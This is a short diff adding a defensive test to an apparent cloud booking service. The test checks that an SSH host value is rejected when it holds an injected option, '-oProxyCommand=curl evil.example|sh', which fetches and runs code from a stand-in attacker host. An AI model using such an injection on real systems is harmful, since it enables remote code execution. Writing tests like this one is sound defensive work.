@@ -490,3 +490,14 @@ async def test_whoever_wakes_up_after_its_hold_settles_nothing(
     assert ended_one.state == "terminated"
     assert [one.getMessage() for one in caplog.records if one.exc_info] == []
     await balanced(buying)
+
+
+async def test_what_is_no_host_is_never_part_of_a_line_to_log_in_with(buying: Buying) -> None:
+    buying.world.cloud.ssh_host = "-oProxyCommand=curl evil.example|sh"
+    booking = await buying.active()
+    shown = await buying.asks("list_bookings", booking_id=booking.id)
+    assert shown.items[0].ssh is None
+    buying.world.cloud.ssh_host = "203.0.113.7"
+    await buying.passes(2 * MINUTE)
+    shown = await buying.asks("list_bookings", booking_id=booking.id)
+    assert shown.items[0].ssh == [f"ssh -p {buying.world.cloud.ssh_port} root@203.0.113.7"]
